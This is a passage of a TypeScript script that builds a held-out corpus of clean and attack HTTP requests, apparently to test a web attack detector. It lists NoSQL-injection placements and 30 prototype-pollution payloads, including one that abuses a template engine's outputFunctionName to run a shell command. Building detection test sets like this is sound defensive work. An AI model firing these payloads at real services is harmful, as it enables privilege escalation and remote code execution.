          JSON.stringify({ data: { type: 'invoice-queries', attributes: { filter: { [field]: value } } } }),
        );
        break;
      }
      case 'json-array': {
        attackReq(
          'nosql',
          `${technique}; json-array`,
          'POST',
          '/api/reports/aggregate',
          jsonHeaders(),
          JSON.stringify({ pipeline: [{ $match: { facility: 'fac_sea01' } }, value, { $limit: 50 }] }),
        );
        break;
      }
      case 'merge-patch': {
        attackReq(
          'nosql',
          `${technique}; merge-patch`,
          'PATCH',
          `/api/v1/profiles/${uuid()}`,
          jsonHeaders('application/merge-patch+json'),
          JSON.stringify({ [field]: value }),
        );
        break;
      }
      case 'ndjson': {
        const lines = [
          JSON.stringify({ op: 'find', collection: 'observations', filter: { verified: true } }),
          JSON.stringify({ op: 'find', collection: 'users', filter: { [field]: value } }),
        ];
        attackReq(
          'nosql',
          `${technique}; ndjson`,
          'POST',
          '/v1/batch/query',
          baseHeaders({ 'content-type': 'application/x-ndjson' }),
          `${lines.join('\n')}\n`,
        );
        break;
      }
      default:
        throw new Error(`nosql placement ${placement} not handled`);
    }
  }
});

// Prototype pollution: written as raw JSON so `__proto__` stays a plain key.
const PROTO: [string, string, string, string, string][] = [
  [
    '__proto__ key nested',
    'POST',
    '/api/v1/profiles',
    'application/json',
    '{"displayName":"Mika","preferences":{"__proto__":{"isAdmin":true}}}',
  ],
  [
    '__proto__ top-level',
    'PUT',
    '/api/v2/workspaces/412/settings',
    'application/json',
    '{"__proto__":{"role":"owner"},"timezone":"Europe/Berlin"}',
  ],
  [
    'constructor.prototype',
    'POST',
    '/api/observations',
    'application/json',
    '{"species":{"scientificName":"Pica pica"},"constructor":{"prototype":{"verified":true}}}',
  ],
  [
    'unicode-escaped __proto__ key',
    'POST',
    '/api/v1/adoption-applications',
    'application/json',
    '{"animalId":"A120044","answers":{"\\u005f\\u005fproto\\u005f\\u005f":{"approved":true}}}',
  ],
  [
    'partially escaped proto key',
    'PATCH',
    '/api/tasks/55120',
    'application/merge-patch+json',
    '{"meta":{"__pro\\u0074o__":{"reviewed":true}}}',
  ],
  [
    'merge-patch __proto__',
    'PATCH',
    '/v1/rentals/40112',
    'application/merge-patch+json',
    '{"__proto__":{"discountPercent":100}}',
  ],
  [
    'json-patch add proto path',
    'PATCH',
    '/api/v2/posts/8a6c',
    'application/json-patch+json',
    '[{"op":"add","path":"/__proto__/isAdmin","value":true}]',
  ],
  [
    'json-patch constructor path',
    'PATCH',
    '/v3/brackets/9f1e',
    'application/json-patch+json',
    '[{"op":"replace","path":"/constructor/prototype/admin","value":true}]',
  ],
  [
    'json-patch escaped tilde proto',
    'PATCH',
    '/api/projects/12/label-schema',
    'application/json-patch+json',
    '[{"op":"add","path":"/classes/0/__proto__/polluted","value":"yes"}]',
  ],
  [
    'dotted path key lodash set',
    'POST',
    '/api/projects/12/settings',
    'application/json',
    '{"path":"__proto__.allowAll","value":true}',
  ],
  [
    'dotted constructor path',
    'POST',
    '/v1/integrations/config',
    'application/json',
    '{"updates":[{"key":"constructor.prototype.shell","value":"/bin/sh"}]}',
  ],
  [
    'array path segments',
    'POST',
    '/api/v2/workspaces/412/preferences',
    'application/json',
    '{"set":{"path":["__proto__","isAdmin"],"value":true}}',
  ],
  ['query bracket __proto__', 'GET', '/api/v1/animals?species=dog&__proto__[isAdmin]=true', '', ''],
  ['query dotted __proto__', 'GET', '/v3/tournaments?game=cs2&__proto__.status=admin', '', ''],
  [
    'query constructor prototype',
    'GET',
    '/api/invoices?constructor[prototype][approved]=1&sort=-dueDate',
    '',
    '',
  ],
  ['query encoded brackets', 'GET', '/api/observations?%5F%5Fproto%5F%5F%5Bverified%5D=true', '', ''],
  [
    'form __proto__',
    'POST',
    '/volunteer/signup',
    'application/x-www-form-urlencoded',
    'name=Ana+Ruiz&email=ana%40example.org&__proto__%5Brole%5D=staff',
  ],
  [
    'form constructor prototype',
    'POST',
    '/contact/quote',
    'application/x-www-form-urlencoded',
    'unit_size=5x5&constructor%5Bprototype%5D%5BisAdmin%5D=true',
  ],
  [
    'graphql variables proto',
    'POST',
    '/graphql',
    'application/json',
    '{"operationName":"UpdateSettings","query":"mutation UpdateSettings($s: JSON!) { updateSettings(settings: $s) { ok } }","variables":{"s":{"__proto__":{"isAdmin":true}}}}',
  ],
  [
    'graphql variables constructor',
    'POST',
    '/graphql',
    'application/json',
    '{"operationName":"SaveFilter","query":"mutation SaveFilter($f: JSON!) { saveFilter(input: $f) { id } }","variables":{"f":{"constructor":{"prototype":{"bypassAuth":true}}}}}',
  ],
  [
    'jsonapi attributes proto',
    'PATCH',
    '/jsonapi/rentals/77',
    'application/vnd.api+json',
    '{"data":{"type":"rentals","id":"77","attributes":{"__proto__":{"paid":true}}}}',
  ],
  [
    'ndjson line proto',
    'POST',
    '/api/import/annotations',
    'application/x-ndjson',
    '{"task_id":1,"label":"car"}\n{"task_id":2,"__proto__":{"reviewer":true}}\n',
  ],
  [
    'json-in-string proto',
    'PUT',
    '/api/projects/12',
    'application/json',
    '{"title":"Vehicles v3","settingsJson":"{\\"__proto__\\":{\\"canExport\\":true}}"}',
  ],
  [
    'base64 config proto',
    'POST',
    '/api/projects/12/import-config',
    'application/json',
    `{"format":"json","encoding":"base64","data":"${b64('{"labels":["car"],"__proto__":{"isAdmin":true}}')}"}`,
  ],
  [
    'deep array proto',
    'POST',
    '/api/schedules',
    'application/json',
    '{"invoices":[{"number":"INV-1","meta":{"__proto__":{"verified":true}}}]}',
  ],
  [
    'prototype-less constructor key',
    'POST',
    '/api/intake/calls',
    'application/json',
    '{"caller":{"constructor":{"prototype":{"toString":"polluted"}}}}',
  ],
  [
    'multipart field name proto',
    'POST',
    '/api/v2/media',
    'multipart/form-data; boundary=----pp27',
    '------pp27\r\nContent-Disposition: form-data; name="__proto__[uploader]"\r\n\r\nadmin\r\n------pp27\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n\u0089PNG\r\n------pp27--\r\n',
  ],
  [
    'header json proto',
    'GET',
    '/api/v2/posts?status=scheduled',
    'x-client-context',
    '{"__proto__":{"isAdmin":true}}',
  ],
  [
    'duplicate proto key shadow',
    'POST',
    '/api/v1/profiles',
    'application/json',
    '{"role":"user","__proto__":{"role":"admin"},"__proto__":{"verified":true}}',
  ],
  [
    'polluting outputFunctionName',
    'POST',
    '/api/v1/templates/render',
    'application/json',
    '{"data":{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');s"}}}',
  ],
];
if (PROTO.length !== 30) throw new Error(`prototype-pollution: expected 30, got ${PROTO.length}`);
for (const [technique, method, path, ct, body] of PROTO) {
  if (ct === 'x-client-context') {
    attackReq('prototype-pollution', technique, method, path, baseHeaders({ 'x-client-context': body }));
  } else if (ct === '') {
    attackReq('prototype-pollution', technique, method, path, baseHeaders());
  } else {
    attackReq('prototype-pollution', technique, method, path, baseHeaders({ 'content-type': ct }), body);
  }
}

/** The corpus: clean requests and attacks, deterministic for the fixed seed. */
export const heldout27: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean,
  attacks,
};

function countBy(xs: readonly CorpusRequest[], key: 'kind' | 'family'): Record<string, number> {
  const out: Record<string, number> = {};
  for (const x of xs) {
    const k = x[key] ?? '(none)';
    out[k] = (out[k] ?? 0) + 1;
  }
  return out;
}

const self = fileURLToPath(import.meta.url);
if (process.argv[1] !== undefined && resolve(process.argv[1]) === self) {
  const dir = dirname(self);
  writeFileSync(join(dir, 'clean-heldout27.json'), `${JSON.stringify(heldout27.clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout27.json'), `${JSON.stringify(heldout27.attacks, null, 2)}\n`);
  console.log(`clean: ${heldout27.clean.length}`, countBy(heldout27.clean, 'kind'));
  console.log(`attacks: ${heldout27.attacks.length}`, countBy(heldout27.attacks, 'family'));
}
